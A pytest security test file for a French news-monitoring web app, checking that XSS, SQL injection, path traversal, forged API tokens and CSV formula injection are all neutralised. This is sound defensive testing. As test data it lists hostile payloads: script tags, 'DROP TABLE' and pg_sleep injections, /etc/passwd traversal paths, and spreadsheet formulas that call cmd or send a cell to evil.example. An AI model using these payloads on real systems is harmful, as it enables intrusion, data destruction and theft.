"""Each attack, tried: stored XSS on every page type, SQL injection in search and every filter (SQLite and
PostgreSQL), path traversal on the static files, ingest over the API with and without the token, and
spreadsheet formulas in CSV exports. tests/serve/test_web.py covers the escaping of the shared UI store;
here the pages are parsed and searched for anything a browser would run."""
from __future__ import annotations

import csv
import io
import json
import re
import socket
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import lxml.html
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from veille.config import Settings
from veille.run.local import build_pipeline, ingest
from veille.serve.api import create_app
from veille.serve.cli.main import cli
from veille.serve.export import ARTICLE_SCHEMA, export_records
from veille.store import open_store

from .conftest import CLEAN_STAGES, running_server
from .hostile import BACKENDS, PLAIN_STORY, count_articles, SCRIPTS, URLS, HostileStore, hostile_store, store_url

#: Attributes whose value a browser loads or runs as a URL.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcdoc"}
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "style"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


@pytest.fixture(scope="module")
def sqlite_hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileStore]:
    with hostile_store(str(tmp_path_factory.mktemp("xss") / "hostile.db")) as built:
        yield built


@pytest.fixture(scope="module")
def client(sqlite_hostile: HostileStore) -> TestClient:
    return TestClient(create_app(Settings(db=sqlite_hostile.url)))


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[HostileStore]:
    with hostile_store(store_url(request, tmp_path)) as built:
        yield built


def executable_parts(html: str) -> list[str]:
    """What a browser would run in ``html``: script-like elements, on* handlers, script URLs."""
    found = []
    root = lxml.html.document_fromstring(html)
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag.lower() in FORBIDDEN_TAGS:
            found.append(f"<{element.tag}>")
        if element.tag.lower() == "meta" and element.get("http-equiv"):
            found.append("<meta http-equiv>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name.lower() == "style":
                found.append(f"{element.tag} {name}={value!r}")
            if name.lower() in URL_ATTRIBUTES:
                scheme = _INVISIBLE.sub("", value).lower().partition(":")[0]
                if scheme in ("javascript", "data", "vbscript") or value.strip().startswith("//"):
                    found.append(f"{element.tag} {name}={value!r}")
    return found


def page_urls(store: HostileStore) -> list[str]:
    urls = ["/", "/search", "/search?q=alert", "/search?q=script", "/docs", "/story/nope<script>alert(1)</script>",
            "/article/%22%3E%3Cscript%3E", "/search?date_from=<script>"]
    urls += [f"/article/{quote(a.id, safe='')}" for a in [store.plain, *store.articles]]
    urls += [f"/story/{quote(story, safe='')}" for story in [PLAIN_STORY, *store.story_ids]]
    urls += [f"/person/{quote(key, safe='')}" for key in store.speaker_keys]
    for script in SCRIPTS[:3]:  # reflected: every filter shows its value back in the form and the chips
        urls += [f"/search?{name}={quote(script)}&q={quote(script)}" for name in
                 ("site", "lang", "speaker", "entity", "story")]
        urls.append(f"/?site={quote(script)}")
    return urls


def test_stored_and_reflected_xss_leaves_nothing_executable_on_any_page(
    client: TestClient, sqlite_hostile: HostileStore
) -> None:
    shown = 0
    for url in page_urls(sqlite_hostile):
        response = client.get(url)
        assert response.status_code in (200, 400, 404, 422), url  # 422: a filter over its length cap
        assert response.headers["content-type"].startswith("text/html"), url
        assert executable_parts(response.text) == [], url
        shown += "alert(" in lxml.html.document_fromstring(response.text).text_content()
    assert shown >= len(sqlite_hostile.articles)  # the attacks were on the pages, as inert text


def test_script_urls_are_never_links(client: TestClient, sqlite_hostile: HostileStore) -> None:
    for article in sqlite_hostile.articles:
        root = lxml.html.document_fromstring(client.get(f"/article/{quote(article.id, safe='')}").text)
        hrefs = [a.get("href") for a in root.iter("a")]
        assert article.url is not None
        assert (article.url in hrefs) == article.url.startswith("https://"), article.url  # quoted, so inert
        assert all(h.startswith(("/", "#", "?", "https://", "http://")) for h in hrefs), hrefs
    plain = lxml.html.document_fromstring(client.get(f"/article/{sqlite_hostile.plain.id}").text)
    assert sqlite_hostile.plain.url in [a.get("href") for a in plain.iter("a")]  # a real link stays a link
    assert set(URLS) >= {a.url for a in sqlite_hostile.articles}


def test_every_response_carries_a_strict_csp(client: TestClient, sqlite_hostile: HostileStore) -> None:
    urls = [*page_urls(sqlite_hostile)[:12], "/api/home", "/api/search?q=alert", "/static/style.css",
            "/static/nope.js", "/openapi.json", "/api/articles/nope"]
    for url in urls:
        headers = client.get(url).headers
        policy = dict(part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";"))
        assert policy["script-src"] == "'self'" and policy["object-src"] == "'none'", url
        assert policy["base-uri"] == "'none'" and policy["frame-ancestors"] == "'none'", url
        assert "unsafe" not in headers["content-security-policy"], url
        assert headers["x-content-type-options"] == "nosniff", url
        if url.startswith("/api") or url.startswith("/openapi"):
            assert headers["content-type"].startswith("application/json"), url  # never sniffed as a page


def test_api_returns_the_attacks_as_json_data(client: TestClient, sqlite_hostile: HostileStore) -> None:
    article = sqlite_hostile.articles[0]
    record = client.get(f"/api/articles/{quote(article.id, safe='')}").json()
    assert record["title"] == article.title and record["quotes"][0]["speaker"] == article.quotes[0].speaker


# -- SQL injection -----------------------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1", "'; DROP TABLE articles; --", '" OR ""="', "%' OR 1=1 --",
    "x') UNION SELECT id, record FROM articles --",
    "\\", "'||(SELECT 1)||'", "$$; DROP TABLE articles; $$", "NEAR(a b", "*", "title:*", "zzz) OR (yyy", "\x00",
    "1; SELECT pg_sleep(5)", "' AND 1=(SELECT COUNT(*) FROM sqlite_master) --",
]
FILTERS = ["site", "lang", "speaker", "entity", "story", "date_from", "date_to"]


@pytest.mark.parametrize("backend", BACKENDS, indirect=True)
def test_sql_injection_in_search_and_every_filter_changes_nothing(backend: HostileStore) -> None:
    app = TestClient(create_app(Settings(db=backend.url)))
    total = app.get("/api/search", params={"limit": 1}).json()["total"]
    assert total == len(backend.articles) + 1
    for payload in INJECTIONS:
        response = app.get("/api/search", params={"q": payload})
        assert response.status_code == 200, (payload, response.text)
        assert response.json()["total"] < total, payload
        for name in FILTERS:
            response = app.get("/api/search", params={name: payload, "q": "cyclables"})
            if name.startswith("date"):
                assert response.status_code in (400, 422), (name, payload)
                # a valid day in front passes validation: the rest must still reach SQL as a value
                early = app.get("/api/search", params={"date_to": "2000-01-01" + payload[:20].strip("\x00")})
                assert early.status_code == 200 and early.json()["total"] == 0, payload
                continue
            if name == "lang" and len(payload) > 16:  # over the parameter's length cap
                assert response.status_code == 422
                continue
            if payload == "\x00":  # refused alike on both backends (PostgreSQL text cannot hold it)
                assert response.status_code == 400 and "NUL" in response.json()["detail"]
                continue
            assert response.status_code == 200, (name, payload, response.text)
            assert response.json()["total"] == 0, (name, payload)
            assert app.get("/api/home", params={name: payload}).status_code == 200
        for path in ("/api/stories/", "/api/articles/", "/api/people/", "/story/", "/article/", "/person/"):
            assert app.get(path + quote(payload, safe="")).status_code == 404, (path, payload)
    store = open_store(backend.url)
    try:
        assert store.count_articles() == total
        assert store.search("cyclables").total == 1 and store.get(backend.plain.id) is not None
    finally:
        store.close()
    assert app.get(f"/api/stories/{PLAIN_STORY}").status_code == 200


# -- path traversal ------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def server(sqlite_hostile: HostileStore) -> Iterator[tuple[str, int]]:
    """A real uvicorn: only raw bytes on a socket reach the router unnormalised."""
    with running_server(sqlite_hostile.url) as port:
        yield "127.0.0.1", port


def raw_get(address: tuple[str, int], target: bytes) -> tuple[int, bytes]:
    with socket.create_connection(address, timeout=10) as conn:
        conn.sendall(b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
    status_line, _, rest = data.partition(b"\r\n")
    return int(status_line.split()[1]), rest


TRAVERSALS = [
    b"/static/../../../../../../etc/passwd", b"/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    b"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", b"/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"/static/..%252f..%252fetc%252fpasswd", b"/static//etc/passwd", b"/static/%2fetc%2fpasswd",
    b"/static/....//....//....//etc/passwd", b"/static/..\\..\\..\\etc\\passwd", b"/static/style.css%00.png",
    b"/static/%00", b"/static/../templates/base.html", b"/static/%2e%2e/templates/base.html",
    b"/static/../../api/app.py", b"/static/..%c0%af..%c0%afetc/passwd", b"/static/%ff%fe",
    b"/../../../../etc/passwd", b"/person/..%2f..%2f..%2fetc%2fpasswd", b"/static/",
]


def test_static_files_never_serve_anything_outside_their_folder(server: tuple[str, int]) -> None:
    status, body = raw_get(server, b"/static/style.css")
    assert status == 200 and b"@media" in body  # the control: the folder itself is served
    for target in TRAVERSALS:
        status, body = raw_get(server, target)
        assert status in (400, 404, 405), (target, status)
        for secret in (b"root:", b"{% extends", b"from __future__", b"<!doctype html>\n<html lang=\"fr\">\n<head>\n{%"):
            assert secret not in body, target


# -- ingest over the API -------------------------------------------------------------------------------

TOKEN = "jeton-de-test-0123456789"


@pytest.mark.parametrize("headers, params", [
    ({}, {}), ({"Authorization": "Bearer"}, {}), ({"Authorization": "Bearer "}, {}),
    ({"Authorization": f"Bearer {TOKEN[:-1]}"}, {}), ({"Authorization": f"Bearer {TOKEN}x"}, {}),
    ({"Authorization": f"Basic {TOKEN}"}, {}), ({"Authorization": TOKEN}, {}), ({}, {"token": TOKEN}),
    ({"X-Api-Token": TOKEN}, {}), ({"Authorization": f"Bearer {TOKEN.upper()}"}, {}),
], ids=["none", "empty", "blank", "prefix", "suffix", "basic", "bare", "query", "other-header", "case"])
def test_ingest_refuses_every_wrong_credential(tmp_path: Path, headers: dict[str, str], params: dict[str, str]) -> None:
    app = TestClient(create_app(replace(Settings(db=str(tmp_path / "api.db")), api_token=TOKEN)))
    response = app.post("/api/ingest", json={"records": [{"id": "x:1", "text": "Un texte."}]}, headers=headers,
                        params=params)
    assert response.status_code == 401 and response.headers["www-authenticate"] == "Bearer"
    assert count_articles(str(tmp_path / "api.db")) == 0


def test_hostile_records_ingested_with_the_token_are_stored_and_shown_inert(tmp_path: Path) -> None:
    db = str(tmp_path / "api.db")
    app = TestClient(create_app(replace(Settings(db=db), api_token=TOKEN)))
    text = ("La mairie d'Aurillac a présenté jeudi son plan pour les écoles. " * 3 + SCRIPTS[1] + " "
            + "« Nous ouvrirons deux classes », a déclaré le maire " + SCRIPTS[2] + ".")
    records = [{"id": f"api:{n}", "title": script, "text": text, "url": url, "source": script,
                "published": "2025-06-03", "auteur": script, "chemin": "/etc/passwd"}
               for n, (script, url) in enumerate(zip(SCRIPTS[:3], ["javascript:alert(1)", "file:///etc/passwd",
                                                                   "data:text/html,<script>alert(1)</script>"]))]
    done = app.post("/api/ingest", json={"records": records}, headers={"Authorization": f"bearer {TOKEN}"})
    assert done.status_code == 200 and done.json()["new"] == 3, done.text
    hits = app.get("/api/search", params={"q": "Aurillac"}).json()["hits"]
    assert len(hits) == 3
    for hit in hits:
        page = app.get(f"/article/{quote(hit['id'], safe='')}")
        assert page.status_code == 200 and executable_parts(page.text) == []
        assert "root:" not in page.text  # a path in a record is data, never read
    assert executable_parts(app.get("/search", params={"q": "Aurillac"}).text) == []


# -- CSV formulas ----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_defuses_spreadsheet_formulas_and_jsonl_keeps_them(tmp_path: Path) -> None:
    records = [{"id": f"f:{n}", "title": formula, "site": formula, "text": f"{formula} et la suite",
                "boilerplate": [formula], "extra": {"note": formula}} for n, formula in enumerate(FORMULAS)]
    records.append({"id": "f:ok", "title": "Budget : 2 + 2 = 4", "site": "Le Monde", "text": "Texte normal."})
    out = io.BytesIO()
    export_records(records, out, format="csv", schema=ARTICLE_SCHEMA)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))
    for row, formula in zip(rows, FORMULAS):
        assert row["title"] == row["site"] == "'" + formula and row["text"] == "'" + formula + " et la suite"
        assert json.loads(row["boilerplate"]) == [formula]  # a JSON cell starts with [ or {: inert as it is
    assert rows[-1]["title"] == "Budget : 2 + 2 = 4" and rows[-1]["text"] == "Texte normal."
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    lines = io.BytesIO()
    export_records(records, lines, format="jsonl", schema=ARTICLE_SCHEMA)
    assert [json.loads(line)["title"] for line in lines.getvalue().splitlines()][: len(FORMULAS)] == FORMULAS


def test_cli_csv_export_of_a_hostile_store_has_no_live_formula(tmp_path: Path) -> None:
    db = str(tmp_path / "f.db")
    page = tmp_path / "formules.jsonl"
    page.write_text("".join(json.dumps({"id": f"f:{n}", "title": formula, "source": "@Agence",
                                        "text": "Le conseil a voté le budget primitif jeudi soir."}) + "\n"
                            for n, formula in enumerate(FORMULAS[:3])), encoding="utf-8")
    store = open_store(db)
    try:
        ingest([str(page)], settings=Settings(db=db), store=store, pipeline=build_pipeline(store, CLEAN_STAGES))
    finally:
        store.close()
    result = CliRunner().invoke(cli, ["export", "articles", "--format", "csv", "--db", db])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert sorted(row["title"] for row in rows) == sorted("'" + f for f in FORMULAS[:3])
    assert {row["site"] for row in rows} == {"'@Agence"}
    assert "spreadsheet" in CliRunner().invoke(cli, ["export", "--help"]).stdout
